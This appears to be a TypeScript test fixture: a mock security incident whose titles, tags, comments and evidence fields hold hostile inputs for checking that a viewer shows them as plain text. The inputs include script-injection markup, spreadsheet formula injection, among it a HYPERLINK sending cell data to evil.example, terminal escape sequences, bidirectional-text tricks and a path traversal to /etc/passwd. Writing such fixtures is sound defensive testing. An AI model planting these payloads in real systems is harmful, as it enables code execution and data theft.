import { ip, raw, url } from "./exhibits.js";
import type { Incident } from "./incident.js";

/** What whatever reads or shows evidence must withstand. */
export const hostileEvidence: Incident = {
  name: "hostile-evidence",
  id: "4209",
  title: "<script>alert(1)</script> \u001b[31mincident\u001b[0m \u202etnedicni",
  created: "2026-03-01T18:00:00Z",
  updated: "2026-03-01T18:30:00Z",
  severity: "informational",
  status: "active",
  priority: 5,
  tags: ["=cmd|'/C calc'!A0", "<b onmouseover=alert(2)>tag</b>"],
  description: "[read more](javascript:alert(3)) ![x](https://evil.example/p.png)",
  comments: [["<img src=x onerror=alert(4)>", '=HYPERLINK("https://evil.example")', "2026-03-01T18:20:00Z"]],
  alerts: [
    {
      title: '=HYPERLINK("https://evil.example/?x="&A1,"alert")',
      first: "2026-03-01T17:10:00Z",
      last: "2026-03-01T17:15:00Z",
      severity: "informational",
      product: "da",
      status: "new",
      categories: ["SuspiciousActivity"],
      techniques: [],
      description: '<iframe srcdoc="<script>alert(5)</script>"></iframe>',
      details: { "<b>key</b>": "' | union * //", __proto__x: "\u001b]52;c;ZXZpbA==\u0007" },
      evidence: [
        url('https://hostile-values.example/"><script>alert(6)</script>', ["malicious", "suspicious"]),
        url("javascript:alert(7)//", ["malicious", "suspicious"]),
        url("https://user:pw@203.0.113.9\u202e/", ["malicious", "suspicious"]),
        ip("203.0.113.300", ["malicious", "attacker"]),
        ip("2130706433", ["malicious", "attacker"]),
        ip("\u001b[2J10.0.0.1", ["malicious", "attacker"]),
        raw("dnsEvidence", ["malicious", "destination"], {
          domainName: "=cmd|'/C calc'!A0",
          ipAddresses: [],
          hostIpAddress: null,
          dnsServerIp: null,
        }),
      ],
    },
    {
      title: "Evidence of a kind that nobody has heard of",
      first: "2026-03-01T16:00:00Z",
      last: "2026-03-01T16:02:00Z",
      severity: "informational",
      product: "da",
      status: "new",
      categories: ["SuspiciousActivity"],
      techniques: [],
      description: "What the service has learnt since this was written.",
      evidence: [
        raw("satelliteLinkEvidence", ["malicious", "attacker"], {
          carrierName: "Example Orbit",
          ipAddress: { ipAddress: "203.0.113.250" },
          url: 7,
          beams: [{ beam: 4, groundStation: "gs1.example" }],
        }),
        raw("deviceEvidence", ["unknown", "attacked"], {
          deviceDnsName: "<script>alert(8)</script>",
          hostName: "../../etc/passwd",
          ipInterfaces: ["::ffff:10.1.1.1", "not an address"],
          lastExternalIpAddress: null,
        }),
      ],
    },
  ],
  meaning: "nothing to hunt: whatever shows this incident shows it as text",
  adversary: ["hostile-values.example"],
  traps: {},
};
